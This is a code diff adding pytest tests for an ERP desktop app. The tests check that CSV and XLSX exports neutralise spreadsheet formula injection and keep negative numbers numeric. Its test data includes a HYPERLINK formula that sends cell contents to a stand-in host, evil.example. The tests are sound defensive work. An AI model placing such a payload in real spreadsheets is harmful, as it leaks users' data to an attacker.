@@ -112,6 +112,50 @@ def test_xlsx_cells_are_typed(model, tmp_path):
     assert 8 <= sheet.column_dimensions["B"].width <= 60
 
 
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=2+2", "+1", "-2+3", "@SUM(A1:A9)", "\tx",
+                "\r=1+1"]
+
+
+@pytest.fixture
+def hostile_model(qapp):
+    """Names a user could type, beside real numbers (negatives too) that must stay numbers."""
+    m = RowsTableModel(_columns())
+    m.set_rows([Row(name, Decimal("-12.500") * i, -i, date(2024, 5, 1), STAMP)
+                for i, name in enumerate(FORMULA_LIKE + ["plain", "a=b"], start=1)])
+    return m
+
+
+def test_csv_writes_formula_like_text_behind_a_quote_and_numbers_as_numbers(hostile_model, tmp_path):
+    path = tmp_path / "h.csv"
+    assert export_csv(hostile_model, path) == len(FORMULA_LIKE) + 2
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert [row[0] for row in rows] == ["'" + name for name in FORMULA_LIKE] + ["plain", "a=b"]
+    assert rows[0][1:3] == ["-12.500", "-1"]  # a negative number is a number, not a formula
+    assert rows[3][1:3] == ["-50.000", "-4"]
+
+
+def test_xlsx_writes_formula_like_text_as_strings_and_numbers_as_numbers(hostile_model, tmp_path):
+    from openpyxl import load_workbook
+
+    path = tmp_path / "h.xlsx"
+    export_xlsx(hostile_model, path)
+    sheet = load_workbook(path).active
+    names = [sheet.cell(row=r, column=1) for r in range(2, len(FORMULA_LIKE) + 4)]
+    # XML reads a carriage return back as a line feed
+    assert [c.value for c in names] == [n.replace("\r", "\n") for n in FORMULA_LIKE] + ["plain", "a=b"]
+    assert all(c.data_type == "s" for c in names), [(c.value, c.data_type) for c in names]
+    assert all(c.quotePrefix for c in names[:len(FORMULA_LIKE)])
+    qty, count = sheet["B2"], sheet["C2"]
+    assert qty.data_type == "n" and qty.value == -12.5 and qty.number_format == "#,##0.000"
+    assert count.data_type == "n" and count.value == -1
+    # nothing in the file is a formula: no <f> element in the sheet's XML
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
 def test_write_to_a_missing_folder_is_a_clear_error(model, tmp_path):
     from erp_desktop.errors import ErpError
 
